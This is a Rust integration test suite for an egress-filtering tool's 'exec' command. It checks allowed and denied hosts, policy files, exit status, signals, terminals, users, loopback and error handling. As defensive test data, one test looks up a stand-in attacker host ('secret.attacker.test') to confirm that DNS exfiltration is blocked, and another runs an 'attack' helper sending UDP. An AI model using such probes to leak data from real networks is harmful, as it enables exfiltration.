//! `egress-agent exec` as its user sees it: real clients, exit status, signals, terminal, user,
//! summary, bad input.

use std::{fs, os::unix::process::CommandExt as _, process::Stdio, time::Duration};

use anyhow::{Context as _, Result, ensure};
use egress_tests::{
    agent,
    exec::Exec,
    internet,
    process::{self, PATIENCE, finish},
    world::World,
};

/// The last lines, from the agent's own on.
fn summary(text: &str) -> &str {
    text.find("egress-agent: ").map_or("", |at| &text[at..])
}

#[test]
fn curl_python_node_and_openssl_reach_an_allowed_name() -> Result<()> {
    let world = World::new()?;
    let exec = Exec::new(&world, &["--allow", "allowed.test"]);
    let python = "import urllib.request as u; print(u.urlopen('https://allowed.test/', timeout=10).read().decode())";
    let node = "require('https').get('https://allowed.test/', r => r.pipe(process.stdout))";
    for line in [
        &["curl", "-sS", "https://allowed.test/"][..],
        &["python3", "-c", python],
        &["node", "-e", node],
    ] {
        let done = exec.run(line)?;
        ensure!(done.status.success(), "{line:?}: {}", done.text());
        ensure!(
            done.stdout.contains("name=allowed.test"),
            "{line:?}: {}",
            done.text()
        );
        ensure!(
            summary(&done.stderr).starts_with("egress-agent: 1 allowed, 0 denied, 0 dropped\n"),
            "{line:?}: {}",
            done.stderr
        );
    }
    let openssl =
        "openssl s_client -connect allowed.test:443 -verify_return_error -brief </dev/null";
    let done = exec.shell(openssl)?;
    ensure!(done.text().contains("Verification: OK"), "{}", done.text());
    exec.records().expect_no_report()
}

#[test]
fn git_clones_from_an_allowed_name() -> Result<()> {
    let world = World::new()?;
    let repository = world.internet.files().join("repo.git");
    let (work, clone) = (world.scratch().file("work"), world.scratch().file("clone"));
    let script = format!(
        "set -e; export HOME={home}; git init -q -b main {work}; cd {work}; echo hello > file; \
         git add file; git -c user.name=t -c user.email=t@t.test commit -qm first; \
         git clone -q --bare . {repository}; cd {repository}; git update-server-info",
        home = world.scratch().file("").display(),
        work = work.display(),
        repository = repository.display(),
    );
    finish(
        std::process::Command::new("sh").args(["-c", &script]),
        PATIENCE,
    )?
    .ok()
    .context("making a repository")?;
    let exec = Exec::new(&world, &["--allow", "repo.test"]);
    let clone = clone.display().to_string();
    let done = exec.run(&["git", "clone", "-q", "https://repo.test/repo.git", &clone])?;
    ensure!(done.status.success(), "{}", done.text());
    ensure!(
        fs::exists(format!("{clone}/file"))?,
        "the clone has no file"
    );
    exec.records().expect_no_report()
}

#[test]
fn a_denied_name_fails_at_once_and_is_summed_up() -> Result<()> {
    let world = World::new()?;
    let exec = Exec::new(&world, &["--allow", "allowed.test"]);
    let to = format!("denied.test:443:{}", internet::address4("denied.test"));
    let capture = world.capture()?;
    let done = exec.run(&["curl", "-sS", "--resolve", &to, "https://denied.test/"])?;
    ensure!(done.status.code() == Some(35), "{}", done.text());
    ensure!(
        done.stderr.contains("alert access denied"),
        "{}",
        done.stderr
    );
    ensure!(
        summary(&done.stderr).contains("denied   denied.test:443  1 connection, host_not_allowed"),
        "{}",
        done.stderr
    );
    capture.fence(&world.node)?;
    let arrived = capture.to(internet::address4("denied.test").into());
    ensure!(arrived.is_empty(), "{arrived:?}");
    let record = exec
        .records()
        .wait_for("the denial", |record| record.verdict() == "deny")?;
    ensure!(record.endpoint() == "curl", "{record:?}");
    ensure!(record.text("/process/command") == "curl", "{record:?}");
    Ok(())
}

#[test]
fn a_name_that_only_dns_would_leak_is_refused() -> Result<()> {
    let world = World::new()?;
    let exec = Exec::new(&world, &["--allow", "allowed.test"]);
    let done = exec.shell("getent ahosts secret.attacker.test; getent ahosts allowed.test")?;
    ensure!(done.stdout.contains("203.0.113.10"), "{}", done.text());
    ensure!(
        summary(&done.stderr).contains("secret.attacker.test"),
        "{}",
        done.stderr
    );
    let asked = world.internet.dns.queries()?;
    ensure!(!asked.iter().any(|q| q.contains("attacker")), "{asked:?}");
    Ok(())
}

#[test]
fn wildcards_ports_networks_and_policy_files() -> Result<()> {
    let world = World::new()?;
    let policy = world.scratch().write(
        "policy.yaml",
        "apiVersion: egress-agent.dev/v1alpha1\nkind: EgressPolicy\nmetadata: { name: x, namespace: y }\n\
         spec:\n  selector: { serviceAccounts: [nobody] }\n  egress: [ { hosts: [status.test] }, { http: { hosts: [repo.test], methods: [GET] } } ]\n",
    )?;
    let policy = policy.display().to_string();
    let flags = [
        "--allow",
        "allowed.invalid",
        "*.cdn.test",
        "--allow-cidr",
        "198.51.100.7:8443",
        "--policy",
        &policy,
    ];
    let exec = Exec::new(&world, &flags);
    exec.run(&["curl", "-sS", "https://www.cdn.test/"])?.ok()?;
    exec.run(&["curl", "-sS", "https://status.test/"])?.ok()?;
    exec.run(&["curl", "-sS", "http://repo.test/"])?.ok()?;
    let denied = exec.run(&["curl", "-sS", "-d", "x", "http://repo.test/"])?;
    ensure!(
        denied.stdout.contains("method_not_allowed"),
        "{}",
        denied.text()
    );
    ensure!(
        summary(&denied.stderr).contains("denied   repo.test:80  1 connection, method_not_allowed"),
        "{}",
        denied.stderr
    );
    let echo = "import socket; s = socket.create_connection(('198.51.100.7', 8443), 5); s.sendall(b'x' * 5); print(s.recv(5))";
    ensure!(exec.python(echo)?.ok()?.contains("xxxxx"), "no echo");
    ensure!(
        !exec.python(&echo.replace("8443", "5432"))?.status.success(),
        "another port is allowed"
    );
    let denied = exec.run(&["curl", "-sS", "https://allowed.test/"])?;
    ensure!(!denied.status.success(), "{}", denied.text());
    Ok(())
}

#[test]
fn a_name_of_the_nodes_hosts_file_may_lead_to_the_node() -> Result<()> {
    let world = World::new()?;
    let hosts = world
        .scratch()
        .write("hosts", "127.0.0.1 localhost repo.test other.test\n")?;
    let authority = world.scratch().file("own.pem").display().to_string();
    let key = world.scratch().file("own.key").display().to_string();
    let made = format!(
        "openssl req -x509 -newkey rsa:2048 -nodes -keyout {key} -out {authority} -days 2 \
         -subj /CN=repo.test -addext subjectAltName=DNS:repo.test,DNS:other.test"
    );
    finish(
        std::process::Command::new("sh").args(["-c", &made]),
        PATIENCE,
    )?
    .ok()?;
    let mut server = world
        .node
        .command("openssl")
        .args(["s_server", "-quiet", "-www", "-accept", "127.0.0.1:443"])
        .args(["-cert", &authority, "-key", &key])
        .stdin(Stdio::null())
        .spawn()?;
    let outcome = (|| {
        process::eventually("the server", || {
            let connected = world
                .node
                .enter(|| std::net::TcpStream::connect("127.0.0.1:443").is_ok())?;
            Ok(connected.then_some(()))
        })?;
        let exec = Exec::new(&world, &["--allow", "repo.test"]);
        let script = format!(
            "mount --make-rprivate /; mount --bind {} /etc/hosts; exec \"$@\"",
            hosts.display()
        );
        let curl = |host: &str| -> Result<process::Finished> {
            let url = format!("https://{host}/");
            let inner = exec.command(&["curl", "-sS", "--cacert", &authority, &url])?;
            let mut command = world.node.command("unshare");
            command
                .args(["--mount", "sh", "-c", &script, "sh"])
                .arg(inner.get_program())
                .args(inner.get_args());
            finish(&mut command, PATIENCE)
        };
        curl("repo.test")?.ok().context("allowed by name")?;
        let other = curl("other.test")?;
        ensure!(!other.status.success(), "{}", other.text());
        ensure!(
            other.stderr.contains("host_not_allowed"),
            "{}",
            other.text()
        );
        Ok(())
    })();
    server.kill()?;
    server.wait()?;
    outcome
}

#[test]
fn the_exit_status_is_the_commands() -> Result<()> {
    let world = World::new()?;
    let exec = Exec::new(&world, &[]);
    for (script, status) in [("true", 0), ("exit 7", 7), ("kill -KILL $$", 137)] {
        let done = exec.shell(script)?;
        ensure!(
            done.status.code() == Some(status),
            "{script}: {}",
            done.text()
        );
    }
    let missing = exec.run(&["no-such-command"])?;
    ensure!(missing.status.code() == Some(127), "{}", missing.text());
    ensure!(
        missing.stderr.contains("no-such-command"),
        "{}",
        missing.text()
    );
    let file = exec.run(&["/etc/passwd"])?;
    ensure!(file.status.code() == Some(126), "{}", file.text());
    Ok(())
}

#[test]
fn standard_streams_and_arguments_are_the_commands() -> Result<()> {
    let world = World::new()?;
    let exec = Exec::new(&world, &["--quiet"]);
    let mut command = exec.command(&[
        "sh",
        "-c",
        "cat; printf '<%s>' \"$@\"; echo err >&2",
        "sh",
        "a b",
        "",
        "--",
    ])?;
    let mut child = command
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()?;
    let mut stdin = child.stdin.take().context("a pipe")?;
    std::io::Write::write_all(&mut stdin, b"in")?;
    drop(stdin);
    let output = child.wait_with_output()?;
    ensure!(output.stdout == b"in<a b><><-->", "{output:?}");
    ensure!(output.stderr == b"err\n", "{output:?}");
    Ok(())
}

#[test]
fn signals_are_passed_on() -> Result<()> {
    let world = World::new()?;
    let exec = Exec::new(&world, &["--quiet"]);
    for (name, number) in [
        ("TERM", libc::SIGTERM),
        ("HUP", libc::SIGHUP),
        ("INT", libc::SIGINT),
        ("USR1", libc::SIGUSR1),
    ] {
        let ready = world.scratch().file(&format!("ready-{name}"));
        let script = format!(
            "trap 'echo got {name}; exit 9' {name}; touch {}; while :; do sleep 0.05; done",
            ready.display()
        );
        let mut command = exec.command(&["sh", "-c", &script])?;
        // What is started in the background by a shell ignores SIGINT, and all that it starts does.
        // SAFETY: signal(2) may be called between fork and exec.
        unsafe {
            command.pre_exec(move || {
                libc::signal(number, libc::SIG_DFL);
                Ok(())
            })
        };
        let mut child = command.stdout(Stdio::piped()).spawn()?;
        process::within(PATIENCE, "the command", || Ok(ready.exists().then_some(())))?;
        // SAFETY: a signal to a child of ours that was not waited for.
        unsafe { libc::kill(child.id() as i32, number) };
        let status = process::wait(&mut child, PATIENCE)?;
        ensure!(status.code() == Some(9), "{name}: {status}");
    }
    Ok(())
}

/// Runs the agent on a terminal of its own, and prints what that showed and its exit status.
const ON_A_TERMINAL: &str = "
import os, pty, sys
pid, fd = pty.fork()
if pid == 0:
    os.execvp(sys.argv[1], sys.argv[1:])
out = b''
while True:
    try: data = os.read(fd, 4096)
    except OSError: break
    if not data: break
    out += data
print(out.decode(), os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))
";

#[test]
fn the_terminal_is_the_commands() -> Result<()> {
    let world = World::new()?;
    let exec = Exec::new(&world, &[]);
    let shell = "test -t 0 && test -t 1 && tty && stty size > /dev/tty && exit 4";
    let inner = exec.command(&["sh", "-c", shell])?;
    let mut command = world.node.command("python3");
    command
        .args(["-c", ON_A_TERMINAL])
        .arg(inner.get_program())
        .args(inner.get_args());
    let done = finish(&mut command, PATIENCE)?;
    for part in ["/dev/console", "egress-agent: 0 allowed", " 4\n"] {
        ensure!(done.stdout.contains(part), "no {part}: {}", done.text());
    }
    Ok(())
}

#[test]
fn who_called_sudo_or_was_named_runs_the_command() -> Result<()> {
    let world = World::new()?;
    let show = "id -u; id -g; echo $USER $HOME; id -Gn; grep CapEff /proc/self/status; test -w $XDG || test -w /run/user/$(id -u)";
    let nobody = finish(
        std::process::Command::new("getent").args(["passwd", "nobody"]),
        PATIENCE,
    )?
    .ok()?;
    let fields: Vec<&str> = nobody.trim().split(':').collect();
    let named = Exec::new(&world, &["--user", "nobody"]).shell(show)?;
    let mut sudo = Exec::new(&world, &[]).command(&["sh", "-c", show])?;
    sudo.env("SUDO_UID", fields[2]).env("SUDO_GID", fields[3]);
    let sudo = finish(&mut sudo, PATIENCE)?;
    for done in [named, sudo] {
        let text = done.text();
        ensure!(done.status.success(), "{text}");
        for part in [
            fields[2],
            fields[3],
            &format!("nobody {}", fields[5]),
            "CapEff:\t0000000000000000",
        ] {
            ensure!(text.contains(part), "no {part}: {text}");
        }
    }
    Ok(())
}

#[test]
fn the_working_directory_and_files_are_as_outside() -> Result<()> {
    let world = World::new()?;
    let exec = Exec::new(&world, &["--quiet"]);
    let done = exec.shell("pwd; echo made > made-inside")?.ok()?;
    let scratch = world.scratch().file("");
    let scratch = scratch.display().to_string();
    ensure!(done.trim() == scratch.trim_end_matches('/'), "{done}");
    ensure!(world.scratch().file("made-inside").exists(), "no file");
    Ok(())
}

#[test]
fn several_at_once_have_their_own_rules() -> Result<()> {
    let world = World::new()?;
    let hosts = ["allowed.test", "denied.test", "repo.test", "status.test"];
    std::thread::scope(|scope| {
        let runs: Vec<_> = hosts
            .iter()
            .map(|host| {
                let exec = Exec::new(&world, &["--allow", host]);
                scope.spawn(move || -> Result<()> {
                    for other in hosts {
                        let done = exec.run(&["curl", "-sS", &format!("https://{other}/")])?;
                        ensure!(
                            done.status.success() == (other == *host),
                            "{other} where {host} is allowed: {}",
                            done.text()
                        );
                    }
                    Ok(())
                })
            })
            .collect();
        for run in runs {
            run.join()
                .unwrap_or_else(|_panic| anyhow::bail!("a thread panicked"))?;
        }
        Ok(())
    })
}

#[test]
fn audit_lets_everything_pass_and_says_what_would_be_denied() -> Result<()> {
    let world = World::new()?;
    let exec = Exec::new(&world, &["--audit", "--allow", "allowed.test"]);
    let capture = world.capture()?;
    let attack = egress_tests::tools::attack()?.display().to_string();
    let script = format!(
        "{attack} udp 198.51.100.7:4000 x && curl -sS https://denied.test/ && curl -sS https://allowed.test/"
    );
    let done = exec.shell(&script)?;
    ensure!(done.status.success(), "{}", done.text());
    capture.fence(&world.node)?;
    ensure!(
        !capture.to("198.51.100.7".parse()?).is_empty(),
        "UDP was dropped"
    );
    let summary = summary(&done.stderr);
    for part in [
        "1 allowed, 0 denied, 0 dropped",
        "audited  denied.test:443",
        "udp 198.51.100.7:4000",
        "allowed  allowed.test:443",
    ] {
        ensure!(summary.contains(part), "no {part}: {summary}");
    }
    Ok(())
}

#[test]
fn loopback_is_the_commands_own_and_the_nodes_only_where_allowed() -> Result<()> {
    let world = World::new()?;
    let listener = world
        .node
        .enter(|| std::net::TcpListener::bind("127.0.0.1:0"))??;
    let port = listener.local_addr()?.port();
    std::thread::spawn(move || {
        for stream in listener.incoming().take(8).flatten() {
            // The client may have gone.
            std::io::Write::write_all(&mut { stream }, b"the node's").ok();
        }
    });
    let ask = format!(
        "import socket; print(socket.create_connection(('127.0.0.1', {port}), 8).recv(99))"
    );
    let refused = Exec::new(&world, &[]).python(&ask)?;
    ensure!(
        refused.stderr.contains("ConnectionRefusedError"),
        "{}",
        refused.text()
    );
    let allowed = Exec::new(&world, &["--allow-loopback"]).python(&ask)?;
    ensure!(allowed.stdout.contains("the node's"), "{}", allowed.text());
    let port = format!("127.0.0.1:{port}");
    let named = Exec::new(&world, &["--allow-cidr", &port]).python(&ask)?;
    ensure!(named.stdout.contains("the node's"), "{}", named.text());
    let own = "
import socket, threading
s = socket.create_server(('127.0.0.1', 0))
threading.Thread(target=lambda: s.accept()[0].sendall(b'own')).start()
print(socket.create_connection(s.getsockname(), 5).recv(9))";
    for flags in [&[][..], &["--allow-loopback"]] {
        let exec = Exec::new(&world, flags);
        ensure!(exec.python(own)?.ok()?.contains("own"), "{flags:?}");
    }
    Exec::new(&world, &[])
        .records()
        .matching(|_| true)
        .map(drop)
}

#[test]
fn bad_input_is_one_line_and_nothing_runs() -> Result<()> {
    let world = World::new()?;
    let direct = world.scratch().write(
        "direct.yaml",
        "apiVersion: egress-agent.dev/v1alpha1\nkind: ClusterEgressPolicy\nmetadata: { name: d }\n\
         spec: { direct: [ { cidrs: [10.0.0.0/8] } ] }\n",
    )?;
    let direct = direct.display().to_string();
    let marker = world.scratch().file("ran");
    for (flags, words) in [
        (["--allow", "*"], "--allow"),
        (["--allow", "192.0.2.1"], "--allow-cidr"),
        (["--allow-cidr", "10.0.0.1/8"], "10.0.0.0/8"),
        (["--policy", "/nowhere/policy.yaml"], "/nowhere/policy.yaml"),
        (["--policy", &direct], "cidrs"),
        (["--user", "nobody-at-all"], "nobody-at-all"),
        (["--resolver", "here"], "--resolver here"),
        (["--permit-answer", "ten"], "--permit-answer ten"),
        (["--records", "/nowhere/records"], "/nowhere/records"),
    ] {
        let mut command = agent::command(&world)?;
        command
            .arg("exec")
            .args(flags)
            .args(["--", "touch"])
            .arg(&marker);
        let done = finish(&mut command, PATIENCE)?;
        ensure!(
            done.status.code() == Some(125),
            "{flags:?}: {}",
            done.text()
        );
        ensure!(
            done.stderr.lines().count() == 1,
            "{flags:?}: {}",
            done.stderr
        );
        ensure!(done.stderr.contains(words), "{flags:?}: {}", done.stderr);
    }
    let agent = egress_tests::tools::agent()?;
    let mut user = world.node.command("setpriv");
    user.args(["--reuid", "nobody", "--clear-groups"])
        .arg(agent)
        .args(["exec", "--", "touch"])
        .arg(&marker);
    let done = finish(&mut user, PATIENCE)?;
    ensure!(done.status.code() == Some(125), "{}", done.text());
    ensure!(done.stderr.contains("sudo"), "{}", done.text());
    ensure!(!marker.exists(), "it ran all the same");
    Ok(())
}

#[test]
fn in_a_cgroup_namespace_it_works_all_the_same() -> Result<()> {
    let world = World::new()?;
    let exec = Exec::new(&world, &["--allow", "allowed.test"]);
    let inner = exec.command(&["curl", "-sS", "https://allowed.test/"])?;
    let cgroup = world.cgroup().child("system/a/b/c")?;
    let mount = egress_tests::cgroup::mount()?;
    let script = format!(
        "echo 0 > {}/cgroup.procs; exec unshare --cgroup --mount sh -c '\
         mount --make-rprivate /; mount -t tmpfs none {mount}; mount -t cgroup2 none {mount}; \
         exec \"$@\"' sh \"$@\"",
        cgroup.display(),
        mount = mount.display(),
    );
    let mut command = world.node.command("sh");
    command
        .args(["-c", &script, "sh"])
        .arg(inner.get_program())
        .args(inner.get_args())
        .env("CURL_CA_BUNDLE", world.internet.authority());
    let done = finish(&mut command, PATIENCE)?;
    ensure!(done.status.success(), "{}", done.text());
    ensure!(
        done.stderr.contains("1 allowed, 0 denied, 0 dropped"),
        "{}",
        done.text()
    );
    Ok(())
}

#[test]
fn a_firewall_between_command_and_gateway_is_said() -> Result<()> {
    let world = World::new()?;
    let rules = "table inet firewall { chain input { type filter hook input priority 0; policy accept; iifname \"egress-*\" drop; }; }";
    finish(world.node.command("nft").arg(rules), PATIENCE)?.ok()?;
    let done = Exec::new(&world, &[]).run(&["true"])?;
    ensure!(done.status.code() == Some(125), "{}", done.text());
    ensure!(done.stderr.lines().count() == 1, "{}", done.stderr);
    ensure!(done.stderr.contains("firewall"), "{}", done.stderr);
    Ok(())
}

#[test]
fn it_is_quick_to_start() -> Result<()> {
    // No mark of speed: only that nothing waits for a time-out somewhere.
    let world = World::new()?;
    let done = Exec::new(&world, &[]).run(&["true"])?;
    ensure!(
        done.took < process::here(Duration::from_secs(10)),
        "{:?}",
        done.took
    );
    Ok(())
}
